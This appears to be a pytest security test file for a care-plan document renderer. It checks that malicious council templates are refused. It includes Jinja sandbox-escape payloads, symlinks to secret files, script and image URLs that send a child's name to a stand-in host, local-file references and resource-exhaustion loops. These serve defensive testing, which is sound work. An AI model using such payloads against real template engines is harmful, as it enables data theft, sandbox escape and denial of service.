"""Attacks a council template or profile could make, each refused by
'permdocs templates check' and by 'permdocs render' (exit 2, a message naming
the template, nothing written, no case data and no file contents echoed)."""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from docx import Document

import permdocs
from permdocs.cli import main
from permdocs.describe.template_check import check_templates

from conftest import BABY, DOCUMENT, ROOT

COVER_PAGE = ROOT / "samples" / "profiles" / "cover-page-council"
SECRET = "TOP-SECRET-FILE-CONTENT"


def _council(tmp_path: Path) -> Path:
    folder = tmp_path / "council"
    shutil.copytree(COVER_PAGE, folder)
    (tmp_path / "secret.txt").write_text(SECRET)
    return folder


def _html(template: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / "overrides" / "html" / "care-plan-permanence.html").write_text(template)
    return write


def _linked_override(folder: Path) -> None:
    target = folder / "overrides" / "html" / "care-plan-permanence.html"
    target.unlink()
    target.symlink_to(folder.parent / "secret.txt")


def _linked_include(folder: Path) -> None:
    (folder / "overrides" / "html" / "extra.html").symlink_to(folder.parent / "secret.txt")
    _html('{% extends "permdocs/care-plan-permanence.html" %}{% block cover %}{% include "extra.html" %}{% endblock %}')(folder)


def _linked_folder(folder: Path) -> None:
    outside = folder.parent / "elsewhere"
    outside.mkdir()
    (outside / "care-plan-permanence.html").write_text("{{ child.full_name }}")
    shutil.rmtree(folder / "overrides" / "html")
    (folder / "overrides" / "html").symlink_to(outside)


ATTACKS: dict[str, Callable[[Path], None]] = {
    "override-is-a-link": _linked_override,
    "include-of-a-link": _linked_include,
    "linked-override-folder": _linked_folder,
    "class-of-a-string": _html("{{ ''.__class__.__mro__ }}"),
    "cycler-globals": _html("{{ cycler.__init__.__globals__ }}"),
    "template-reference": _html("{{ self._TemplateReference__context }}"),
    "attr-filter": _html("{{ child|attr('__class__') }}"),
    "str-format": _html("{{ '{0.__class__}'.format(child) }}"),
    "script": _html("<p>{{ child.preferred_name }}</p><script>fetch('//x')</script>"),
    "remote-image": _html("<img src=\"https://example.invalid/{{ child.full_name }}.png\">"),
    "file-image": _html("<img src=\"file:///etc/hostname\">"),
    "remote-link": _html("<a href=\"https://example.invalid/{{ child.full_name }}\">More</a>"),
    "remote-css": _html("<style>@import url(https://example.invalid/a.css);</style>"),
    "event-handler": _html("<p onmouseover=\"x()\">{{ child.preferred_name }}</p>"),
    # Drawings may hold shapes and text, nothing that loads or links.
    "svg-image": _html("<svg><image href=\"https://example.invalid/{{ child.full_name }}.png\"/></svg>"),
    "svg-remote-paint": _html("<svg><rect fill=\"url(https://example.invalid/p.svg#{{ child.full_name }})\"/></svg>"),
    "svg-link": _html("<svg><a href=\"https://example.invalid/\"><text>{{ child.preferred_name }}</text></a></svg>"),
    "svg-handler": _html("<svg><rect onload=\"x()\"/><text>{{ child.preferred_name }}</text></svg>"),
    "runaway-loops": _html("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"),
    "huge-string": _html("{{ 'x' * 10**10 }}"),
}
# Errors only render can see (the template is valid; what it does is not).
RENDER_ONLY: dict[str, Callable[[Path], None]] = {
    "recursive-macro": _html("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"),
    "division-by-zero": _html("{{ 1 / 0 }}"),
    "type-error": _html("{{ child.date_of_birth + 1 }}"),
}


def _render(council: Path, tmp_path: Path, fmt: str = "html") -> Any:
    out = tmp_path / "out"
    args = ["render", str(BABY), "--doc", DOCUMENT, "--format", fmt, "--profile", str(council), "--out", str(out)]
    result = CliRunner().invoke(main, args)
    assert not out.exists() or not any(out.iterdir())
    return result


def _assert_refused(result: Any) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output
    assert SECRET not in result.output and "Sampleford" not in result.output


@pytest.mark.parametrize("attack", list(ATTACKS), ids=list(ATTACKS))
def test_templates_check_and_render_both_refuse(attack: str, tmp_path: Path) -> None:
    council = _council(tmp_path)
    ATTACKS[attack](council)
    check = CliRunner().invoke(main, ["templates", "check", "--profile", str(council)])
    assert check.exit_code in (2, 3) and SECRET not in check.output, check.output
    assert "Traceback" not in check.output
    _assert_refused(_render(council, tmp_path))


@pytest.mark.parametrize("attack", list(RENDER_ONLY), ids=list(RENDER_ONLY))
def test_render_reports_a_broken_council_template_as_input(attack: str, tmp_path: Path) -> None:
    council = _council(tmp_path)
    RENDER_ONLY[attack](council)
    result = _render(council, tmp_path)
    _assert_refused(result)
    assert "Template care-plan-permanence.html" in result.output


def test_a_word_override_that_is_not_a_word_file(tmp_path: Path) -> None:
    council = _council(tmp_path)
    (council / "overrides" / "docx").mkdir()
    (council / "overrides" / "docx" / "care-plan-permanence.docx").write_text("not a zip")
    _assert_refused(_render(council, tmp_path, "docx"))
    findings = [str(f) for f in check_templates(permdocs.load_profile(council))]
    assert any("is not a Word document" in f for f in findings)


def test_a_word_override_loses_its_external_links(tmp_path: Path) -> None:
    council = _council(tmp_path)
    word = Document(str(permdocs.DOCUMENTS[DOCUMENT].template("docx")))
    paragraph = word.add_paragraph()
    rel = word.part.relate_to("http://example.invalid/track", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", is_external=True)
    link = paragraph._p.makeelement("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}hyperlink",
                                    {"{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id": rel})
    run = paragraph.add_run("Our website")._r
    link.append(run)
    paragraph._p.append(link)
    (council / "overrides" / "docx").mkdir()
    word.save(council / "overrides" / "docx" / "care-plan-permanence.docx")
    data = permdocs.render(permdocs.load_case(BABY), DOCUMENT, "docx", profile=council)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"example.invalid" not in everything and b'TargetMode="External"' not in everything
    assert b"Our website" in everything


@pytest.mark.parametrize(
    ("make_logo", "expected"),
    [
        (lambda p: p.write_text("not an image"), "is not a PNG image"),
        (lambda p: p.write_text("<svg xmlns='http://www.w3.org/2000/svg'/>"), "is not a PNG image"),
        (lambda p: p.mkdir(), "must name a regular file"),
        (lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024 * 1024)), "is larger than 1024 kB"),
        (lambda p: os.mkfifo(p), "must name a regular file"),
    ],
    ids=["not-an-image", "an-svg", "a-folder", "too-large", "a-named-pipe"],
)
def test_a_logo_must_be_a_small_regular_image(tmp_path: Path, make_logo: Callable[[Path], None], expected: str) -> None:
    council = _council(tmp_path)
    (council / "logo.png").unlink()
    make_logo(council / "logo.png")
    permdocs.profiles._load_cached.cache_clear()
    result = _render(council, tmp_path)
    assert result.exit_code == 2 and f"council.logo (line 11): {expected}" in result.output


def test_every_html_carries_a_content_security_policy() -> None:
    html = permdocs.render(permdocs.load_case(BABY), DOCUMENT, "html").decode()
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';' in html.split("</head>")[0]


@pytest.mark.parametrize(
    "template",
    ["{{ {}[child.full_name] }}", "{{ child[child.full_name] }}", "{{ child.full_name() }}", "{{ child.full_name.foo }}",
     "{{ child[child.preferred_name] }}"],
)
def test_template_errors_never_print_case_values(template: str, tmp_path: Path) -> None:
    council = _council(tmp_path)
    _html(template)(council)
    result = _render(council, tmp_path)
    _assert_refused(result)
    assert "Ada" not in result.output and "Maple" not in result.output
